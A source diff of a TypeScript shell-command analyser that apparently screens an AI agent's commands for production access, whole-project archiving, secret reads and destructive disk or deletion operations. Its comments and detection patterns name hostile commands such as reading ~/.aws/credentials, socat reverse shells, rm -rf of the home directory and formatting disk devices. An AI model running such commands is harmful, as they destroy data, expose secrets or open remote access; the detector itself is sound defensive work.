@@ -67,6 +67,8 @@ export interface Invocation {
   assigned?: string[];
   /** Runs on another host (ssh HOST CMD). */
   remote?: boolean;
+  /** Runs on a production host, pod or inventory (ssh prod-1, kubectl -n prod, ansible -i inventory/prod). */
+  prod?: boolean;
 }
 
 export interface Analysis {
@@ -103,7 +105,8 @@ const isAssignment = (w: Word) => /^[A-Za-z_][A-Za-z0-9_]*(\[[^\]]*\])?\+?=/.tes
 
 /** Options that take a value, per wrapper, so the wrapped command is found. */
 const SUDO_ARG_OPTS = new Set(['-u', '-g', '-h', '-p', '-C', '-D', '-r', '-t', '-T', '-U', '-R', '--user', '--group', '--host', '--prompt', '--close-from', '--chdir', '--role', '--type', '--other-user', '--command-timeout', '--chroot']);
-const XARGS_ARG_OPTS = new Set(['--arg-file=', '-I', '-n', '-P', '-L', '-d', '-E', '-s', '-a', '-e', '--max-args', '--max-procs', '--max-lines', '--delimiter', '--arg-file', '--eof', '--max-chars', '--replace']);
+// (--arg-file=<(…) reaches here as `--arg-file=` and the substitution's path, two words.)
+const XARGS_ARG_OPTS = new Set(['-I', '-n', '-P', '-L', '-d', '-E', '-s', '-a', '-e', '--max-args', '--max-procs', '--max-lines', '--delimiter', '--arg-file', '--arg-file=', '--eof', '--max-chars', '--replace']);
 const TIMEOUT_ARG_OPTS = new Set(['-s', '-k', '--signal', '--kill-after']);
 
 interface Unwrapped {
@@ -278,9 +281,8 @@ export function unwrap(input: Word[], env: { home: string; cwd: string }): Unwra
         u.viaXargs = true;
         const af = words.findIndex((w, k) => k > 0 && (w.text === '-a' || w.text === '--arg-file' || /^-[a-zA-Z0-9]+a$/.test(w.text)));
         if (af > 0 && words[af + 1]) u.xargsFile = words[af + 1];
-        // --arg-file=FILE (the parser keeps a process substitution after `=` as its own word).
         const afEq = words.findIndex((w) => w.text.startsWith('--arg-file='));
-        if (afEq > 0) u.xargsFile = words[afEq].text === '--arg-file=' ? words[afEq + 1] : { ...words[afEq], text: words[afEq].text.slice(11) };
+        if (afEq > 0) u.xargsFile = words[afEq].text === '--arg-file=' && words[afEq + 1] ? words[afEq + 1] : { ...words[afEq], text: words[afEq].text.slice(11) };
         for (let k = 1; k < words.length && words[k].text.startsWith('-'); k++) {
           const t = words[k].text;
           if (t === '-I') u.xargsReplace = words[k + 1]?.text;
@@ -414,13 +416,17 @@ interface Walk {
   npmScripts: Map<string, string>;
   /** Descriptors opened on a secret (exec 5< ~/.aws/credentials). */
   secretFds: Map<number, string>;
+  /** Archives of the whole project or repository made on the line (tar czf s.tgz ., git bundle create b --all). */
+  projectCopies: Set<string>;
   /** Collecting a script that runs on another host (ssh HOST CMD). */
   remote?: boolean;
+  /** … on a production one. */
+  prod?: boolean;
 }
 
 /** Analyses a command line. */
 export function analyzeCommand(command: string, env: AnalyzeEnv): Analysis {
-  const walk: Walk = { env, out: [], findings: [], critical: null, vars: new Map(), files: new Map(), netSocket: false, secretRead: null, secretFiles: new Set(), branchNames: new Map(), copiedFrom: new Map(), gitConfig: [], readFeeds: new Map(), aliases: new Map(), movedFrom: new Map(), unpacked: [], listFiles: new Map(), npmScripts: new Map(), secretFds: new Map() };
+  const walk: Walk = { env, out: [], findings: [], critical: null, vars: new Map(), files: new Map(), netSocket: false, secretRead: null, secretFiles: new Set(), branchNames: new Map(), copiedFrom: new Map(), gitConfig: [], readFeeds: new Map(), aliases: new Map(), movedFrom: new Map(), unpacked: [], listFiles: new Map(), npmScripts: new Map(), secretFds: new Map(), projectCopies: new Set() };
   collect(walk, command, env.cwd, 0, false);
   loopInputs(walk);
   for (const inv of walk.out) checkInvocation(walk, inv);
@@ -678,9 +684,11 @@ function toInvocation(walk: Walk, cmd: SimpleCommand, cwd: string | null, depth:
   if (/^(bfs|gfind)$/.test(base(words[0]?.text ?? ''))) words = [{ ...words[0], text: 'find' }, ...words.slice(1)];
   const argv = text(words);
   if (argv[0]?.includes('/') && !argv[0].startsWith('./')) argv[0] = base(argv[0]);
+  // bfs, gfind: find under another name.
+  if (/^(bfs|gfind)$/.test(argv[0] ?? '')) argv[0] = 'find';
   if (/^(bin\/rails|bin\/rake|\.\/bin\/rails)$/.test(words[0]?.text ?? '')) argv[0] = base(words[0].text);
   if (argv[0] === 'php' && argv[1] === 'artisan') argv.splice(0, 2, 'artisan');
-  return { remote: walk.remote, argv, words, redirects: cmd.redirects, cwd: runCwd, elevated: u.elevated, viaXargs: u.viaXargs, xargsReplace: u.xargsReplace, xargsFile: u.xargsFile, upstream: [], nested, assigned: u.assigned.map((w) => w.text) };
+  return { remote: walk.remote, prod: walk.prod, argv, words, redirects: cmd.redirects, cwd: runCwd, elevated: u.elevated, viaXargs: u.viaXargs, xargsReplace: u.xargsReplace, xargsFile: u.xargsFile, upstream: [], nested, assigned: u.assigned.map((w) => w.text) };
 }
 
 /** Variables whose value is a command line a program runs later (git, pagers, editors, askpass helpers). */
@@ -933,9 +941,14 @@ function expandNested(walk: Walk, inv: Invocation, cmd: SimpleCommand, depth: nu
     if (script !== null) {
       // On the remote host: a public key appended to its authorized_keys there is how a login is set up.
       const was = walk.remote;
+      const wasProd = walk.prod;
       walk.remote = name === 'ssh';
-      collect(walk, script, name === 'ssh' ? null : inv.cwd, depth + 1, true);
+      walk.prod ||= name === 'ssh' && /prod/i.test(inv.argv.find((a, k) => k > 0 && !a.startsWith('-') && !/^-[bcDEeFIiJLlmOoPpQRSWw]$/.test(inv.argv[k - 1])) ?? '');
+      // ssh HOST bash <<'EOF' … EOF: the remote shell reads the here-document.
+      const shellIn = SHELLS.has(base(script.trim().split(/\s+/)[0] ?? '')) && readsScriptFromStdin(script.trim().split(/\s+/)) ? stdinText(inv) : null;
+      collect(walk, shellIn ?? script, name === 'ssh' ? null : inv.cwd, depth + 1, true);
       walk.remote = was;
+      walk.prod = wasProd;
     }
   } else if (name === 'git' && inv.argv.includes('config')) {
     // git config alias.X '!CMD': the alias runs CMD through the shell.
@@ -961,7 +974,13 @@ function expandNested(walk: Walk, inv: Invocation, cmd: SimpleCommand, depth: nu
   else if (/^(npm|pnpm|yarn|bun)$/.test(name) && /^(exec|x|dlx)$/.test(inv.argv[1] ?? '') && depth < MAX_DEPTH) genericNested(walk, { ...inv, words: inv.words.slice(1), argv: inv.argv.slice(1) }, depth);
   else if (/^(npm|pnpm|yarn|bun)$/.test(name)) npmScripts(walk, inv, depth);
   else if (name === 'make' && inv.argv.some((a, k) => a === '-' && /^(-f|--file|--makefile)$/.test(inv.argv[k - 1] ?? '')) && depth < MAX_DEPTH) genericNested(walk, { ...inv, words: inv.words.slice(0, 1), argv: inv.argv.slice(0, 1) }, depth);
-  else if (!NOT_WRAPPERS.has(name) && !langOf(name ?? '') && depth < MAX_DEPTH) genericNested(walk, inv, depth);
+  else if (!NOT_WRAPPERS.has(name) && !langOf(name ?? '') && depth < MAX_DEPTH) {
+    // kubectl exec -n prod …, ansible -i inventory/prod …: what they run, runs in production.
+    const wasProd = walk.prod;
+    walk.prod ||= /^(kubectl|oc|ansible|ansible-playbook|helm)$/.test(name) && inv.argv.some((a, k) => /prod/i.test(a) && (/^(-n|--namespace|--context|-i|--inventory|-l|--limit)$/.test(inv.argv[k - 1] ?? '') || /^--(namespace|context|inventory|limit)=/.test(a) || (name === 'ansible' && k === 1)));
+    genericNested(walk, inv, depth);
+    walk.prod = wasProd;
+  }
   if (SOURCE_RUNNERS.test(name ?? '') && inv.cwd !== null && walk.files.size > 0) {
     // cat > /tmp/m.go <<EOF … EOF; go run /tmp/m.go: the source the line wrote is read for what it runs and deletes.
     for (const w of inv.words.slice(1)) {
@@ -987,7 +1006,10 @@ function expandNested(walk: Walk, inv: Invocation, cmd: SimpleCommand, depth: nu
     const { code: code0, readsStdin } = inlineCode(lang, inv.argv);
     // python -c CODE ~ /x: the words after the code are its arguments.
     const code = code0 !== null && lang !== 'awk' && inv.argv.lastIndexOf(code0) > 0 ? withArgs(lang, code0, inv.argv.slice(inv.argv.lastIndexOf(code0) + 1)) : code0;
-    const text = code ?? (readsStdin ? stdinText(inv) : null);
+    // python3 - ARGS <<'PY': the words after `-` are the script's arguments.
+    const dash = inv.argv.indexOf('-');
+    const piped = code === null && readsStdin ? stdinText(inv) : null;
+    const text = code ?? (piped !== null && dash > 0 && lang !== 'awk' ? withArgs(lang, piped, inv.argv.slice(dash + 1)) : piped);
     if (text !== null) checkCode(walk, inv, lang, text, depth);
     // Code that runs what it reads on stdin (exec(sys.stdin.read()), eval(STDIN.read)): the piped text is code too.
     if (code !== null && /\b(exec|eval)\s*\(?[^;\n]*(stdin|STDIN|<STDIN>|readFileSync\(\s*(0|['"]\/dev\/stdin['"]))/.test(code)) {
@@ -1098,7 +1120,7 @@ function genericNested(walk: Walk, inv: Invocation, depth: number): void {
       const name = base(u.words[0].text);
       void name;
       const words = deleteAlias(u.words.map((x, k) => (k === 0 ? { ...x, text: x.text.replace(/(?<=.)@[^/]*$/, '') } : x)));
-      const child: Invocation = { ...inv, argv: text(words), words, elevated: inv.elevated || u.elevated, upstream: inv.upstream, nested: true };
+      const child: Invocation = { ...inv, prod: inv.prod || walk.prod, argv: text(words), words, elevated: inv.elevated || u.elevated, upstream: inv.upstream, nested: true };
       child.argv[0] = base(child.argv[0]);
       walk.out.push(child);
       (inv.inner ??= []).push(child);
@@ -1109,7 +1131,7 @@ function genericNested(walk: Walk, inv: Invocation, depth: number): void {
   const body0 = stdinText(inv);
   const body = body0 === null ? null : body0.replace(TCL_HOME, walk.env.home);
   for (const c of [...optScripts, ...scripts, ...(body !== null ? [body] : [])]) genericCodeDeletes(walk, inv, c);
-  // A code tool's -e value is code even without calls in it (raku -e 'shell "rm -rf ~"'): its string literals are read.
+  // The option of a tool whose language has no table here (raku -e 'shell "…"') is code whatever it looks like.
   const codeTool = CODE_TOOLS.test(base(inv.argv[0] ?? ''));
   const code = [...scripts, ...optScripts, ...(body !== null ? [body] : [])].filter((x) => CODE_LIKE.test(x) || (codeTool && optScripts.includes(x)));
   const texts = [...scripts, ...code.flatMap(stringLiterals)];
@@ -1170,25 +1192,23 @@ function genericCodeDeletes(walk: Walk, inv: Invocation, code: string): void {
     checkDelete(walk, inv, target(inv, w), !!m[1], `${inv.argv[0]} code`);
   }
   // Emacs Lisp (delete-directory "~" t), Elixir File.rm_rf!(System.user_home()).
-  // Racket (delete-directory/files (find-system-path 'home-dir)) too.
-  for (const m of code.replace(/System\.user_home!?\(\)|\(expand-file-name\s+"~"\)|\(getenv\s+"HOME"\)|\(find-system-path\s+(?:'|\(quote\s+)home-dir\)?\)/g, '"~"').matchAll(/\((delete-directory(\/files)?|delete-file)\s+"([^"]*)"(\s+t)?|File\.rm_rf!?\(\s*"([^"]*)"/g)) {
-    const p = m[3] ?? m[5];
+  // Racket (delete-directory/files (find-system-path 'home-dir)).
+  for (const m of code.replace(/System\.user_home!?\(\)|\(expand-file-name\s+"~"\)|\(getenv\s+"HOME"\)|\(find-system-path\s+(?:'|\(quote\s+)home-dir\)?\)/g, '"~"').matchAll(/\((delete-directory\/files|delete-directory|delete-file)\s+"([^"]*)"(\s+t)?|File\.rm_rf!?\(\s*"([^"]*)"/g)) {
+    const p = m[2] ?? m[4];
     if (!/^(~|\/|\.)(\/.*)?$/.test(p)) continue;
-    checkDelete(walk, inv, target(inv, { text: p.replace(/^~(?=\/|$)/, walk.env.home), dynamic: false, glob: false, subs: [], quoted: true }), !!m[2] || !!m[4] || !!m[5], `${inv.argv[0]} code`);
+    checkDelete(walk, inv, target(inv, { text: p.replace(/^~(?=\/|$)/, walk.env.home), dynamic: false, glob: false, subs: [], quoted: true }), !!m[3] || !!m[4] || m[1] === 'delete-directory/files', `${inv.argv[0]} code`);
   }
   if (code.length > 20_000 || !/\b(rm|remove|rmtree|RemoveAll|rmdir|deleteDirectory|deleteRecursively|delete_recursive|remove_dir_all|removeItem|Delete|rm_rf|deleteDir)\b/.test(code)) return;
   const norm = code
     .replace(/\bhomedir\(\)|os\.Getenv\(\s*"HOME"\s*\)|os\.UserHomeDir\(\)|System\.getProperty\(\s*"user\.home"\s*\)|System\.getenv\(\s*"HOME"\s*\)|Sys\.getenv\(\s*"HOME"\s*\)|ENV\[\s*"HOME"\s*\]|Environment\.GetFolderPath\([^)]*UserProfile\)|std::env::var\(\s*"HOME"\s*\)[^,);]*|dirs::home_dir\(\)[^,);]*|FileManager\.default\.homeDirectoryForCurrentUser[^,);]*|\$(?:::)?env\(HOME\)/g, '"~"')
-    .replace(/\bpwd\(\)|os\.Getwd\(\)|System\.getProperty\(\s*"user\.dir"\s*\)|Directory\.GetCurrentDirectory\(\)/g, '"."');
-  // home, _ := os.UserHomeDir(); os.RemoveAll(home) / val h = "~"; File(h).deleteRecursively(): a variable holding the path.
-  const held = new Map<string, string>();
-  for (const v of norm.matchAll(/\b(?:var\s+|val\s+|let\s+|const\s+|auto\s+|String\s+)?([A-Za-z_]\w*)(?:\s*,\s*_)?\s*:?=\s*(["'])([~/.][^"']*)\2/g)) held.set(v[1], v[3]);
-  const withHeld = held.size === 0 ? norm : norm.replace(/\b(rm|remove|rmtree|RemoveAll|rmdir|deleteDirectory|deleteRecursively|delete_recursive|remove_dir_all|removeItem|Delete|rm_rf|deleteDir)(\s*\(\s*(?:new\s+File\()?)([A-Za-z_]\w*)(?=\s*[,)])/g, (x, f: string, open: string, id: string) => (held.has(id) ? `${f}${open}"${held.get(id)}"` : x));
-  for (const m of withHeld.matchAll(/\b(rm|remove|rmtree|RemoveAll|rmdir|deleteDirectory|deleteRecursively|delete_recursive|remove_dir_all|removeItem|Delete|rm_rf|deleteDir)\s*\(\s*(?:new\s+File\()?(["'])([^"']*)\2/g)) {
+    .replace(/\bpwd\(\)|os\.Getwd\(\)|System\.getProperty\(\s*"user\.dir"\s*\)|Directory\.GetCurrentDirectory\(\)/g, '"."')
+    // home, _ := os.UserHomeDir(); os.RemoveAll(home): a variable holding the path, put in.
+    .replace(/\b(\w+)(?:\s*,\s*_)?\s*:?=\s*"(~|\.|\/[^"]*)"[\s\S]*/, (all, id: string, v: string) => all.replace(new RegExp(`\\(\\s*${id}\\s*\\)`, 'g'), `("${v}")`));
+  for (const m of norm.matchAll(/\b(rm|remove|rmtree|RemoveAll|rmdir|deleteDirectory|deleteRecursively|delete_recursive|remove_dir_all|removeItem|Delete|rm_rf|deleteDir)\s*\(\s*(?:new\s+File\()?(["'])([^"']*)\2/g)) {
     const p = m[3];
     if (!/^(~|\/|\.)(\/.*)?$/.test(p)) continue;
     const w: Word = { text: p.replace(/^~(?=\/|$)/, walk.env.home), dynamic: false, glob: false, subs: [], quoted: true };
-    const rec = /RemoveAll|rmtree|recursive|Recursively|remove_dir_all|rm_rf|deleteDirectory|deleteDir/.test(m[0] + withHeld.slice(m.index!, m.index! + 120));
+    const rec = /RemoveAll|rmtree|recursive|Recursively|remove_dir_all|rm_rf|deleteDirectory|deleteDir/.test(m[0] + norm.slice(m.index!, m.index! + 120));
     checkDelete(walk, inv, target(inv, w), rec, `${inv.argv[0]} code`);
   }
 }
@@ -1359,6 +1379,18 @@ function recordWrittenFiles(walk: Walk, inv: Invocation): void {
     const downloaded = DOWNLOADERS.has(name) ? name : null;
     if (content !== null || downloaded) walk.files.set(abs, { content, downloaded });
     checkAutoRun(walk, inv, abs, content, downloaded);
+  }
+  // tar czf s.tgz ., zip -r s.zip ., git bundle create b --all, git archive -o a.zip HEAD: the whole project in one file.
+  const whole = (w: Word) => !w.dynamic && isUnder(walk.env.project, resolveFrom(inv.cwd!, w.text));
+  const tarOut = name === 'tar' && /c/.test(inv.argv[1] ?? '') ? inv.words[inv.argv.findIndex((a, k) => k > 0 && /^-?[a-zA-Z]*f$/.test(a)) + 1] : undefined;
+  if (tarOut && operands(inv.words, new Set(['-C'])).some((w) => w !== tarOut && w !== inv.words[1] && whole(w))) walk.projectCopies.add(resolveFrom(inv.cwd, tarOut.text));
+  if (name === 'zip' && inv.argv.some((a) => /^-[a-zA-Z]*r/.test(a))) {
+    const zo = operands(inv.words, new Set(['-P', '--password', '-x', '-i']));
+    if (zo.length > 1 && zo.slice(1).some(whole)) walk.projectCopies.add(resolveFrom(inv.cwd, zo[0].text));
+  }
+  if (name === 'git' && ((inv.argv[1] === 'bundle' && inv.argv[2] === 'create' && inv.argv.includes('--all')) || inv.argv[1] === 'archive')) {
+    const out = inv.argv[1] === 'bundle' ? inv.words[3] : inv.words[inv.argv.findIndex((a) => a === '-o' || a === '--output') + 1];
+    if (out && inv.argv.findIndex((a) => a === '-o' || a === '--output') !== -1 || inv.argv[1] === 'bundle') if (out) walk.projectCopies.add(resolveFrom(inv.cwd, out.text.replace(/^--output=/, '')));
   }
   // tee FILE <<< TEXT, cp /dev/stdin FILE, dd of=FILE, sponge FILE: FILE holds what comes in on stdin.
   const STDIN = /^(-|\/dev\/(stdin|fd\/0)|\/proc\/self\/fd\/0)$/;
@@ -1609,7 +1641,7 @@ function findRoots(inv: Invocation): { roots: Word[]; filtered: boolean; nameFil
   );
   // -path '*/.ssh/*' names the keys as -name .ssh would.
   const secretPath = tests.flatMap((a, k) => (/^-i?(path|wholename)$/.test(tests[k - 1] ?? '') ? a.split('/').filter((seg) => isSecretName(seg.replace(/^\*+|\*+$/g, ''))) : []))[0];
-  const namePattern = tests.find((a, k) => /^-i?name$/.test(tests[k - 1] ?? '') && !MATCH_ALL.has(a)) ?? secretPath?.replace(/^\*+|\*+$/g, '') ?? null;
+  const namePattern = tests.find((a, k) => /^-i?name$/.test(tests[k - 1] ?? '') && !MATCH_ALL.has(a) && tests[k - 2] !== '!' && tests[k - 2] !== '-not') ?? secretPath?.replace(/^\*+|\*+$/g, '') ?? null;
   // Filters on names and paths narrow a listing of / or the home directory; size, owner, age or kind still select nearly all of it.
   const nameFiltered = tests.some((a, k) => /^-(i?name|i?path|i?regex|i?wholename|i?lname|inum|samefile)$/.test(a) && !MATCH_ALL.has(tests[k + 1] ?? '') && tests[k - 1] !== '!' && tests[k - 1] !== '-not');
   return { roots: roots.length > 0 ? roots : [{ text: '.', dynamic: false, glob: false, subs: [], quoted: false }], filtered, nameFiltered, exprStart: i, namePattern };
@@ -1715,7 +1747,7 @@ function findExec(walk: Walk, inv: Invocation, depth: number): void {
         // sh -c 'rm -rf "$1"' _ {}: the positional parameters are the words after the script.
         if (script !== null) {
           const pos = child.argv.slice(child.argv.indexOf(script) + 1);
-          // With no filter {} is every file of the tree: rm -f "$1" on each is rm -r of the tree.
+          // With no filter the found paths are the whole tree: rm of them is rm -r of the root.
           collect(walk, substitutePositional(filtered ? script : script.replace(/\brm\s+(?!-[a-zA-Z]*[rR])/g, 'rm -r '), pos), inv.cwd, depth + 1, true);
           // for f; do … "$f" …; done walks the positional parameters: set them first.
           if (/\bfor\s+\w+\s*(;|\n|do\b)/.test(script) && pos.length > 1) collect(walk, `set -- ${pos.slice(1).map((a) => `'${a.replace(/'/g, `'\\''`)}'`).join(' ')}\n${filtered ? script : script.replace(/\brm\s+(?!-[a-zA-Z]*[rR])/g, 'rm -r ')}`, inv.cwd, depth + 1, true);
@@ -1863,6 +1895,13 @@ function checkInvocation(walk: Walk, inv: Invocation): void {
       if (recursive) critical(walk, `rm ${args.join(' ')}`);
       break;
     }
+    case 'zip': {
+      // zip -m (--move) deletes each source once it is in the archive; with -r, whole trees.
+      if (!args.some((a) => /^-[a-zA-Z]*m[a-zA-Z]*$|^--move$/.test(a))) break;
+      const ops = operands(inv.words, new Set(['-P', '--password', '-b', '-n', '-t', '-tt', '-x', '-i', '-O', '--out']));
+      for (const w of ops.slice(1)) checkDelete(walk, inv, target(inv, w), args.some((a) => /^-[a-zA-Z]*r/.test(a)), 'zip -m');
+      break;
+    }
     case 'rmdir':
     case 'unlink':
     case 'truncate':
@@ -1878,7 +1917,9 @@ function checkInvocation(walk: Walk, inv: Invocation): void {
         else {
           checkWrite(walk, inv, t, name);
           // What shred overwrites is gone as if deleted (.git/objects/pack/*).
-          if (name === 'shred') checkDelete(walk, inv, t, false, name);
+          if (name === 'shred' || name === 'truncate') checkDelete(walk, inv, t, false, name);
+          // shred of keys, tokens or the shell history: destroyed beyond recovery, on purpose.
+          if (name === 'shred' && t.abs !== null && isUnder(t.abs, walk.env.home) && !isUnder(t.abs, walk.env.project) && isSecretSource(t.abs, walk.env)) block(walk, 'dangerous', `shred destroys ${t.abs} beyond recovery`);
         }
       }
       break;
@@ -2121,14 +2162,15 @@ function checkInvocation(walk: Walk, inv: Invocation): void {
       if (args.some((a) => /^(exec|system):/i.test(a)) && args.some((a) => /^(tcp|udp|openssl|ssl)[46]?(-connect|-listen)?:/i.test(a))) block(walk, 'dangerous', 'socat joins a shell to a network connection: a reverse shell');
       break;
     default:
-      if (readOnlyDiskTool(name, args)) break;
+      // Modes that only read or pretend: wipefs --no-act, mke2fs -n, sfdisk -d/-l/-V, sgdisk --backup/-p/-v, cryptsetup luksDump/status, badblocks without -w.
+      if (readOnlyDiskMode(name, args)) break;
       if (/^mkfs(\.|$)/.test(name) || ['mke2fs', 'mkswap', 'wipefs', 'mkdosfs', 'mkntfs', 'mkexfatfs', 'mkfs.btrfs', 'cryptsetup', 'blkdiscard', 'sfdisk'].includes(name)) {
         // Formatting an image file (mkfs.ext4 disk.img) is ordinary work; a device, or a target only known at run time, is not.
         const ops = operands(inv.words, new Set(['-t', '-L', '-b', '-E', '-g', '-G', '-i', '-I', '-J', '-m', '-M', '-N', '-o', '-O', '-r', '-T', '-U', '-d', '--label', '--type']));
         // Any word naming a device counts, also one an option seemed to take (mkfs.vfat -I /dev/mmcblk0: -I takes none there).
         const devs = [...ops, ...inv.words.slice(1).filter((w) => !ops.includes(w) && /^\/dev\//.test(w.text))]
           .map((w) => ({ w, t: target(inv, w) }))
-          .filter(({ w, t }) => (w.dynamic && ops.includes(w) && !/\.(img|iso|raw|qcow2|vhdx?|vmdk|swap)$/.test(w.text) && !/^\/(tmp|var\/tmp)\//.test(w.text)) || (t.abs !== null && t.abs.startsWith('/dev/') && !['/dev/null', '/dev/zero'].includes(t.abs)));
+          .filter(({ w, t }) => (w.dynamic && ops.includes(w) && !/^[/.~]/.test(w.text.replace(/^\$\{?(TMPDIR|HOME|PWD)\}?/, '/'))) || (t.abs !== null && t.abs.startsWith('/dev/') && !['/dev/null', '/dev/zero'].includes(t.abs)));
         if (devs.length > 0) block(walk, 'dangerous', `${name} formats a filesystem on ${devs.map((d) => d.w.text).join(' ')}, erasing what was on it`, 'format an image file instead (truncate -s 1G disk.img && mkfs.ext4 disk.img), or let the user do it');
         else if (!args.some((a) => /\.(img|iso|raw|bin|qcow2|vhd|swap)$|swapfile/.test(a)) && name !== 'mkswap' && !args.some((a) => /\//.test(a) || /\./.test(a))) warn(walk, 'suspicious', `${name} with no device named`);
       } else if (['fdisk', 'sfdisk', 'cfdisk', 'parted', 'sgdisk', 'gdisk'].includes(name)) {
@@ -2269,23 +2311,6 @@ function checkMachine(walk: Walk, inv: Invocation): void {
   else if (name === 'defaults' && args[0] === 'write' && /LoginHook|LogoutHook|LaunchAgents|AutoLaunchedApplicationDictionary/i.test(a)) say('installs something macOS runs at every login: a way to stay on the machine');
 }
 
-/**
- * Disk tools in modes that only read or report: wipefs without -a/-o (or with -n), mke2fs/mkfs.ext* -n and
- * mkfs.xfs -N (dry runs), cryptsetup luksDump/status/isLuks/open, sfdisk -d/-l/-V/-J, sgdisk -p/-v/-i/--backup,
- * badblocks without -w (its default test only reads).
- */
-function readOnlyDiskTool(name: string, args: string[]): boolean {
-  const opts = args.filter((a) => a.startsWith('-'));
-  if (name === 'wipefs') return args.some((a) => /^(-n|--no-act)$/.test(a)) || !opts.some((a) => /^(-a|--all|-o|--offset|-[a-zA-Z]*[ao][a-zA-Z]*)$/.test(a) || a.startsWith('--offset='));
-  if (/^(mke2fs|mkfs\.ext[234])$/.test(name)) return opts.some((a) => /^-[a-zA-Z]*n[a-zA-Z]*$/.test(a));
-  if (name === 'mkfs.xfs') return opts.includes('-N');
-  if (name === 'cryptsetup') return /^(luksDump|status|isLuks|luksUUID|open|luksOpen|close|luksClose|benchmark|tcryptDump|bitlkDump|token|config)$/.test(args.find((a) => !a.startsWith('-')) ?? '') && !args.includes('--header-backup-file') ? true : args[0] === 'luksHeaderBackup';
-  if (name === 'sfdisk') return opts.length > 0 && opts.every((a) => /^(-d|--dump|-l|--list|-V|--verify|-s|--show-size|-J|--json|-g|--show-geometry|-F|--list-free|-r|--reorder-dry|-n|--no-act|--backup-file)$/.test(a.replace(/=.*$/, '')));
-  if (name === 'sgdisk' || name === 'gdisk') return opts.length > 0 && opts.every((a) => /^(-p|--print|-v|--verify|-i|--info|-O|--print-mbr|-b|--backup|-L|--list-types|-P|--pretend)$/.test(a.replace(/=.*$/, '')) || /^-i\d+$/.test(a));
-  if (name === 'badblocks') return !opts.some((a) => /^-[a-zA-Z]*w/.test(a));
-  return false;
-}
-
 /** Packages without which the system no longer boots, logs in or installs anything. */
 const ESSENTIAL_PACKAGES = /^(libc6|libc-bin|glibc|bash|coreutils|dpkg|apt|rpm|dnf|yum|systemd|systemd-sysv|init|sudo|login|passwd|util-linux|base-files|base-passwd|libpam\S*|openssh-server|grub\S*|linux-image\S*|linux-firmware|kernel|kernel-core|e2fsprogs|mount|ncurses-base|debianutils|diffutils|findutils|grep|gzip|hostname|sed|tar|perl-base|zlib1g|libssl\S*|ca-certificates|python3|python3-minimal)(:\w+)?$/;
 
@@ -2305,7 +2330,7 @@ function checkEssentialPackages(walk: Walk, inv: Invocation): void {
 const PACKAGED_USER_UNITS = /^(syncthing|pipewire|pipewire-pulse|wireplumber|pulseaudio|gpg-agent|gpg-agent-ssh|ssh-agent|gcr-ssh-agent|podman|podman-restart|docker|emacs|mpd|mpris-proxy|redshift|dunst|gnome-keyring-daemon|xdg-desktop-portal|onedrive|dropbox|keybase|kbfs|spotifyd|ollama|rclone@.*|vdirsyncer|offlineimap|mbsync|goimapnotify|foot-server|waybar|kanshi|mako|swayidle|geoclue-agent|obex|tracker-miner-fs-3|gvfs-daemon|at-spi-dbus-bus|pueued)$/;
 
 /** Tools that only read or list a disk device, or are judged by the checks above (mkfs, dd, partitioning). */
-const DEVICE_SAFE = /^(badblocks|lsblk|blkid|file|stat|smartctl|mount|umount|eject|udevadm|partprobe|df|du|cat|head|tail|hexdump|xxd|od|less|more|strings|dd|e2fsck|fsck(\..*)?|tune2fs|dumpe2fs|xfs_info|blockdev|ls|readlink|realpath|cryptsetup|mkfs(\..*)?|mke2fs|mkswap|wipefs|mkdosfs|mkntfs|mkexfatfs|blkdiscard|sfdisk|fdisk|cfdisk|parted|sgdisk|gdisk|losetup|swapon|swapoff|growpart|resize2fs|iostat|pv|ddrescue|shred|truncate|cp|tee|echo|printf|sudo|findmnt|lsof|fuser|sync|fstrim|hdparm|nvme|wc|sha256sum|md5sum|cmp)$/;
+const DEVICE_SAFE = /^(lsblk|blkid|file|stat|smartctl|mount|umount|eject|udevadm|partprobe|df|du|cat|head|tail|hexdump|xxd|od|less|more|strings|dd|e2fsck|fsck(\..*)?|tune2fs|dumpe2fs|xfs_info|blockdev|ls|readlink|realpath|cryptsetup|mkfs(\..*)?|mke2fs|mkswap|wipefs|mkdosfs|mkntfs|mkexfatfs|blkdiscard|sfdisk|fdisk|cfdisk|parted|sgdisk|gdisk|losetup|swapon|swapoff|growpart|resize2fs|iostat|pv|ddrescue|shred|truncate|cp|tee|echo|printf|sudo|findmnt|lsof|fuser|sync|fstrim|hdparm|nvme|wc|sha256sum|md5sum|cmp)$/;
 
 /**
  * Any other tool pointed at a disk device (nvme format, badblocks -w, mdadm --zero-superblock,
@@ -2325,12 +2350,11 @@ function checkDisks(walk: Walk, inv: Invocation): void {
     const o = operands(inv.words, new Set(['-b', '-c', '-i', '-o', '-s', '-K', '-m']))[1];
     return o !== undefined && target(inv, o).abs !== null && isDiskDevice(target(inv, o).abs!);
   })()) what = 'copies over the disk device';
-  else if (name === 'badblocks' && !readOnlyDiskTool(name, args)) what = 'writes test patterns over the whole device (badblocks -w)';
   // tar -cf /dev/sda ., gzip -c … -o /dev/sdb: an archive or output written onto a disk.
   else if (inv.words.some((w, k) => k > 1 && ((/^-[a-zA-Z]*[cru][a-zA-Z]*f$|^--file$/.test(inv.words[k - 1].text) && /^(tar|bsdtar|star)$/.test(name)) || /^(-o|--output|--output-file|-O)$/.test(inv.words[k - 1].text)) && target(inv, w).abs !== null && isDiskDevice(target(inv, w).abs!) && name !== 'dd')) what = 'writes its output onto the disk device';
   else if (name === 'flashrom' && /(^|\s)(-w|--write|-E|--erase)(\s|=|$)/.test(a)) what = 'rewrites the firmware chip (BIOS/UEFI): a bad image leaves the machine unable to start';
   else if (name === 'btrfs' && /subvolume delete|device delete/.test(a) && /\s\/(\s|$)/.test(` ${a} `)) what = 'deletes the root subvolume';
-  else if (!DEVICE_SAFE.test(name ?? '') && !NOT_WRAPPERS.has(name) && !langOf(name ?? '')) {
+  else if (!DEVICE_SAFE.test(name ?? '') && !NOT_WRAPPERS.has(name) && !langOf(name ?? '') && !readOnlyDiskMode(name, args)) {
     const dev = inv.words.slice(1).find((w) => {
       const t = target(inv, { ...w, text: w.text.replace(/^[\w-]*=/, '') });
       return t.abs !== null && isDiskDevice(t.abs);
@@ -2338,6 +2362,18 @@ function checkDisks(walk: Walk, inv: Invocation): void {
     if (dev) what = `works on the disk device ${dev.text}`;
   }
   if (what) block(walk, 'dangerous', `${name} ${args.slice(0, 3).join(' ')} ${what}: nothing on it can be brought back`, 'check the device or volume with lsblk first; let the user run it');
+}
+
+/** A disk tool run in a mode that only reads the device or rehearses (no write happens). */
+function readOnlyDiskMode(name: string, args: string[]): boolean {
+  const a = ` ${args.join(' ')} `;
